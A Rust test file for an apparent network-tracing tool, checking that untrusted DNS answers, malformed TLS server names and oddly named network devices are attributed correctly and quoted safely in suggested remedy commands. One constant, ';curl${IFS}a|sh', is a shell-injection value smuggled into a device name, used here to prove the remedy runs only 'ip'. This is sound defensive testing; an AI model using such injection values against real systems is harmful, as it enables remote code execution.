//! Untrusted names: none of them is shown as a sentence of culprit's, runs in a shell, or names an address for other
//! processes.

use std::{
    io::Write,
    net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream},
};

use crate::{
    harness::{
        Culprit, Fact, Netns, Running,
        dns::{Answer, PORT, ResolvConf, answer_once, ask, query},
        keep::Keeper,
        process::{run, words},
        sockets::{connect, listen_on_loopback, me},
        stage::python,
        tls::{Identity, NAME, hello_of},
    },
    needs,
};

/// A command, and nothing else, as any process with a user namespace may call a device.
const DEVICE: &str = ";curl${IFS}a|sh";

/// Connects, and lives on: where a process is configured to ask can be read only while it is there.
fn connects(to: SocketAddr) -> String {
    format!(
        "import socket, sys; s = socket.create_connection(('{}', {})); s.close(); sys.stdin.read()",
        to.ip(),
        to.port()
    )
}

#[track_caller]
fn end_by(culprit: &Culprit, pid: u32, to: SocketAddr) -> Fact {
    culprit.wait_for("how that process's connect ended", |fact| {
        fact.kind() == "connect_ended" && fact.at("destination") == Some(to) && fact.pid() == pid
    })
}

#[test]
fn a_name_is_used_for_other_processes_only_when_it_came_from_their_own_resolver() {
    needs!();
    let netns = Netns::make();
    let (_listener, to) = listen_on_loopback(&netns);
    let IpAddr::V4(address) = to.ip() else { unreachable!("loopback is IPv4") };
    let server = SocketAddr::new(netns.loopback(), PORT);
    let serving = answer_once(&netns, server, Answer::Address(address));
    let culprit = Culprit::trace("");
    let (asker, _) = netns.enter(move || {
        ask(server, &query(1, "planted.test")).expect("an answer");
        me()
    });
    serving.join().expect("served");
    connect(&netns, to).0.expect("it listens");
    assert_eq!(end_by(&culprit, asker, to).json["destination"]["name"], "planted.test", "who asked");

    let mut python = python();
    python.arg("-c").arg(connects(to));
    let other = netns.spawn(python);
    assert!(end_by(&culprit, other.pid(), to).json["destination"]["name"].is_null(), "configured otherwise");

    let _conf = ResolvConf::naming(server.ip(), "", &netns);
    let exec = format!("ip netns exec {} /usr/bin/python3 -c", netns.name());
    let believer = Running::spawn(words(&exec).arg(connects(to)));
    let name = end_by(&culprit, believer.pid(), to).json["destination"]["name"].clone();
    assert_eq!(name, "planted.test", "configured to ask that server");
}

#[test]
fn an_invalid_server_name_is_reported_as_invalid() {
    needs!();
    let (netns, identity) = (Netns::make(), Identity::make());
    let (_listener, to) = listen_on_loopback(&netns);
    let culprit = Culprit::trace("");
    let mut client = identity.client(|_| ());
    let mut hello = hello_of(&mut client);
    let at = hello.windows(NAME.len()).position(|bytes| bytes == NAME.as_bytes()).expect("its SNI");
    hello[at..at + 3].copy_from_slice(b"a \n");
    let _stream = netns.enter(move || {
        let mut stream = TcpStream::connect(to).expect("it listens");
        stream.write_all(&hello).expect("sent");
        stream
    });
    let emitted =
        culprit.wait_for("the hello", |fact| fact.kind() == "client_hello" && fact.at("peer") == Some(to));
    assert_eq!(emitted.text("sni"), format!("a \n{}", &NAME[3..]));
    assert_eq!(emitted.json["sni_invalid"]["why"], "character");
    assert_eq!(emitted.json["sni_invalid"]["bytes"], NAME.len());
}

#[test]
fn a_device_named_like_a_command_is_an_argument_of_its_remedies() {
    needs!();
    let netns = Netns::make();
    netns.ip(&format!("link add '{DEVICE}' type veth peer name peer"));
    netns.ip(&format!("addr add 10.7.0.1/24 dev '{DEVICE}'"));
    netns.ip(&format!("link set '{DEVICE}' up"));
    netns.ip("link set peer up");
    let mut keeper = Keeper::new("neighbour_unresolved/device_named_like_a_command");
    keeper.keep(std::process::id());
    let culprit = Culprit::trace("");
    let to = SocketAddr::new(Ipv4Addr::new(10, 7, 0, 9).into(), 80);
    connect(&netns, to).0.expect_err("no host has this address");
    let emitted = culprit.wait_for_incident("the neighbour", |emitted| {
        emitted.text("/kind") == "neighbour_unresolved" && emitted.text("/details/device") == DEVICE
    });
    keeper.catches_up();
    keeper.end();
    let quoted = format!("\"{DEVICE}\"");
    assert!(emitted.text("/summary").contains(&quoted), "{}", emitted.text("/summary"));
    let remedies = emitted.json["remedies"].as_array().expect("remedies").clone();
    let look = remedies.last().and_then(|last| last.as_str()).expect("a remedy").to_owned();
    let wanted = ["ip", "-n", netns.name(), "neigh", "show", "10.7.0.9", "dev", DEVICE];
    assert_eq!(shell_words::split(&look).expect("quotes in pairs"), wanted);
    // As it is pasted: the shell runs `ip`, and nothing else.
    let output = run(words("sh -c").arg(&look));
    assert!(output.stderr.is_empty(), "{output:?}");
}
